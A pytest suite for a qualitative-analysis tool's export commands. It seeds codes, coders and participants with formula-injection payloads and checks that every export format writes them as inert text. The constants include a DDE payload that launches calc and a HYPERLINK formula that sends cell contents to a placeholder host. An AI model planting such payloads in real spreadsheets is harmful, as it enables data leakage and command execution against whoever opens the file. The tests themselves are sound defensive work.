"""Every export writes hostile names as inert text: no formula in a sheet, no extra column in md.

The names arrive from other people's .qdpx/.qdc files and CSVs. The project below gives codes,
themes, coders, participants and attributes the classic formula-injection payloads (English,
Russian, Kazakh), and each export is opened with the library that reads its format for real.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import select

from qualcode import codebook, lookup
from qualcode.formats.inert import csv_cell, formula_like, from_csv_cell
from qualcode.models import Coder, Participant, ParticipantAttribute, Theme
from tests.report_projects import build_report_project

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1)"
MINUS = "-2+3"
RUSSIAN = "=СУММ(1;2)"
KAZAKH = "-Көші-қон|қала"
TAB = "\tтаб"
CODES = {"Labour": HYPERLINK, "War": DDE, "Visa": AT_SUM, "Loose": MINUS}
CODERS = {"Ann": RUSSIAN, "Bob": "@Бөкей"}
HOSTILE = {*CODES.values(), *CODERS.values(), KAZAKH, TAB, "=1+1", "+Эксперт A"}


@pytest.fixture
def hostile(project):
    """The report project with every name replaced by an attack."""
    build_report_project(project)
    with project.session() as session:
        for old, new in CODES.items():
            codebook.rename_code(session, lookup.get_code(session, old), new)
        for old, new in CODERS.items():
            session.scalars(select(Coder).where(Coder.name == old)).one().name = new
        session.scalars(select(Theme).where(Theme.name == "Trends")).one().name = KAZAKH
        session.scalars(select(Theme).where(Theme.name == "Policy")).one().name = TAB
        expert = lookup.get_participant(session, "Expert A")
        expert.pseudonym = "+Эксперт A"
        expert.organisation = "=1+1"
        session.add(ParticipantAttribute(participant=expert, name="@profession", value=MINUS))
        session.flush()
        assert session.scalar(select(Participant.id).where(Participant.pseudonym == "+Эксперт A"))
    return project


def test_formula_like_leaves_plain_numbers_and_ordinary_text():
    assert all(formula_like(v) for v in (HYPERLINK, DDE, AT_SUM, MINUS, RUSSIAN, TAB, "\rx"))
    assert not any(formula_like(v) for v in ("-2", "+3.5", "-0,5", "Brain drain", "Көші-қон", 7))
    assert csv_cell(HYPERLINK) == "'" + HYPERLINK and csv_cell(12) == 12
    assert from_csv_cell(csv_cell(DDE)) == DDE and from_csv_cell("'tis") == "'tis"


# every table export that carries user names: (command, the names it must carry)
EXPORTS = [
    (["report", "codes"], {HYPERLINK, DDE, AT_SUM, MINUS}),
    (["report", "matrix"], {HYPERLINK, "+Эксперт A"}),
    (["report", "themes"], {KAZAKH}),
    (["report", "by-attribute", "@profession"], {MINUS}),
    (["participants", "list"], {"+Эксперт A", "=1+1"}),
    (["team", "status"], {RUSSIAN, "@Бөкей"}),
    (["team", "reconcile", "--force"], {RUSSIAN, HYPERLINK}),
    (["codebook", "export", "--appendix"], {HYPERLINK, KAZAKH}),
]


def _ids(exports):
    return [" ".join(command) for command, _ in exports]


@pytest.mark.parametrize(("command", "names"), EXPORTS, ids=_ids(EXPORTS))
def test_xlsx_cells_are_text_never_formulas(hostile, cli, tmp_path, command, names):
    from openpyxl import load_workbook

    out = tmp_path / "out.xlsx"
    result = cli(*command, "-f", "xlsx", "-o", out)
    assert result.exit_code == 0, result.output
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for name in names:
        assert name in by_value, f"{name!r} missing from {command}"
        assert by_value[name].data_type == "s" and by_value[name].quotePrefix
    if command[0] != "participants":  # the list of interviewees has no numbers
        numbers = [c for c in cells if isinstance(c.value, int) and not isinstance(c.value, bool)]
        assert numbers and all(c.data_type == "n" for c in numbers), "numbers stay numbers"


@pytest.mark.parametrize(("command", "names"), EXPORTS, ids=_ids(EXPORTS))
def test_csv_cells_cannot_start_a_formula(hostile, cli, command, names):
    result = cli(*command, "-f", "csv")
    assert result.exit_code == 0, result.output
    body = result.stdout[result.stdout.index("\n") + 1 :] if command[0] == "team" else None
    text = result.stdout if body is None or "," in result.stdout.splitlines()[0] else body
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if formula_like(c)], "a cell a spreadsheet would run"
    for name in names:
        assert "'" + name in cells, f"{name!r} not neutralised in {command}"


def test_markdown_escapes_pipes_so_a_name_adds_no_column(hostile, cli):
    result = cli("report", "codes", "-f", "md")
    lines = [line for line in result.stdout.splitlines() if line.startswith("|")]
    unescaped = {line.replace("\\|", "").count("|") for line in lines}
    assert len(unescaped) == 1, "every row has the same number of columns"
    assert DDE.replace("|", "\\|") in result.stdout
    themes = cli("report", "themes", "-f", "md").stdout
    assert KAZAKH.replace("|", "\\|") in themes


def test_latex_escapes_specials(hostile, cli):
    result = cli("report", "codes", "-f", "tex")
    assert result.exit_code == 0
    assert r'=HYPERLINK("http://x/?"\&A1,"click")' in result.stdout
    lines = result.stdout.splitlines()
    body = [line for line in lines if line.endswith("\\\\") and "&" in line]
    columns = {line.replace("\\&", "").count("&") for line in body}
    assert len(columns) == 1, "a name added a column"


def test_docx_cells_hold_the_names_as_written(hostile, cli, tmp_path):
    from docx import Document

    out = tmp_path / "codes.docx"
    assert cli("report", "codes", "-f", "docx", "-o", out).exit_code == 0
    texts = {cell.text for row in Document(out).tables[0].rows for cell in row.cells}
    assert {HYPERLINK, DDE, AT_SUM, MINUS} <= texts


def test_codebook_csv_is_neutralised_and_reads_back_exactly(hostile, cli, tmp_path):
    with hostile.session() as session:
        for name in CODES.values():
            lookup.get_code(session, name).example_quote = "=Сөз|quote"
    out = tmp_path / "codebook.csv"
    assert cli("codebook", "export", "-f", "csv", "-o", out).exit_code == 0
    cells = [c for row in csv.reader(out.open(encoding="utf-8")) for c in row]
    assert "'" + HYPERLINK in cells and not [c for c in cells if formula_like(c)]
    from qualcode.formats.codebook_files import parse_csv

    book = parse_csv(out.read_text(encoding="utf-8"), str(out))
    names = {c.name for c in book.codes}
    assert {HYPERLINK, DDE, AT_SUM, MINUS} <= names
    assert {c.participant for c in book.codes} >= {"+Эксперт A"}
    assert {c.quote for c in book.codes} >= {"=Сөз|quote"}


def test_refi_exports_keep_names_as_xml_text(hostile, cli, tmp_path):
    import defusedxml.ElementTree as ET

    qdpx, qdc = tmp_path / "project.qdpx", tmp_path / "codebook.qdc"
    assert cli("refi", "export", qdpx).exit_code == 0
    assert cli("refi", "export", qdc).exit_code == 0
    with zipfile.ZipFile(qdpx) as archive:
        root = ET.fromstring(archive.read("project.qde"))
    names = {e.get("name") for e in root.iter() if e.get("name")}
    assert {HYPERLINK, DDE, AT_SUM, MINUS, RUSSIAN, KAZAKH} <= names
    names = {e.get("name") for e in ET.parse(qdc).getroot().iter() if e.get("name")}
    assert {HYPERLINK, DDE} <= names


def test_chart_labels_are_drawn_as_written_not_parsed_as_maths(hostile, cli, tmp_path):
    with hostile.session() as session:
        session.scalars(select(Theme).where(Theme.name == KAZAKH)).one().name = "$x^$ и $"
    out = tmp_path / "themes.svg"
    result = cli("report", "themes", "--chart", out)
    assert result.exit_code == 0, result.output  # mathtext would fail on "$x^$"
    assert out.stat().st_size > 0


def test_terminal_table_prints_markup_in_names_literally(hostile, cli):
    with hostile.session() as session:
        codebook.rename_code(session, lookup.get_code(session, HYPERLINK), "[bold]Жұмыс[/]")
    result = cli("report", "codes")
    assert result.exit_code == 0, result.output
    assert "[bold]Жұмыс[/]" in result.stdout


def test_a_hostile_title_still_makes_a_sheet(tmp_path: Path):
    import pandas as pd
    from openpyxl import load_workbook

    from qualcode.formats.tables import render

    out = tmp_path / "by.xlsx"
    render(pd.DataFrame({"a": [1]}), "xlsx", out, title="Codes by [x]: a/b? 'c'")
    title = load_workbook(out).active.title
    assert title.startswith("Codes by") and not set(title) & set("[]:*?/\\")
